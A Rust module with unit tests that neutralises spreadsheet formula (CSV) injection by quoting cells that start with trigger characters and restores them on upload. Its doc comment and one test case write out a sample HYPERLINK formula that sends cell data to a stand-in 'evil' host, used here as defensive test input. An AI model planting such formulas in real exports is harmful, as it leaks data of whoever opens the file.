//! Spreadsheet formula neutralising for CSV cells (the OWASP "CSV injection" rule).
//!
//! A spreadsheet opening a CSV file runs a cell that starts with `=`, `+`, `-` or `@` (and
//! some also after a tab or CR) as a formula: a dataset item named
//! `=HYPERLINK("http://evil/?"&A1,"open")` would become a live link that sends data away.
//! The export prefixes such a cell with `'`, which spreadsheets show as text.
//!
//! The rule is reversible: a cell is prefixed when it is any number of `'` followed by a
//! trigger character, and the upload removes one `'` from exactly those cells. So every text
//! survives export then upload unchanged, including text that itself starts with `'=`.

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `cell` is `'`* followed by a trigger character.
fn quote_then_trigger(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(TRIGGERS)
}

/// `cell` as the export writes it: prefixed with `'` when a spreadsheet would run it.
pub(crate) fn neutralised(cell: &str) -> Cow<'_, str> {
    if quote_then_trigger(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `cell` as it was before [`neutralised`]: one leading `'` removed from a cell that is
/// `'`+ followed by a trigger character.
pub(crate) fn restored(cell: String) -> String {
    match cell.strip_prefix('\'') {
        Some(rest) if quote_then_trigger(rest) => rest.to_owned(),
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://evil/?\"&A1,\"open\")",
                "'=HYPERLINK(\"http://evil/?\"&A1,\"open\")",
            ),
            ("+1 555 0100", "'+1 555 0100"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "'\rcmd"),
            ("'=already", "''=already"),
            ("plain", "plain"),
            ("{\"a\":1}", "{\"a\":1}"),
            ("a=b", "a=b"),
            ("'quoted", "'quoted"),
            ("", ""),
        ] {
            assert_eq!(neutralised(cell), written, "{cell:?}");
        }
    }

    #[test]
    fn restoring_undoes_neutralising_for_every_text() {
        for cell in [
            "=1+1", "+", "-", "@", "\t", "\r", "'", "'=", "''=x", "'''-", "'a", "''", "a", "",
            "é=", "'\t'",
        ] {
            assert_eq!(restored(neutralised(cell).into_owned()), cell, "{cell:?}");
        }
    }
}
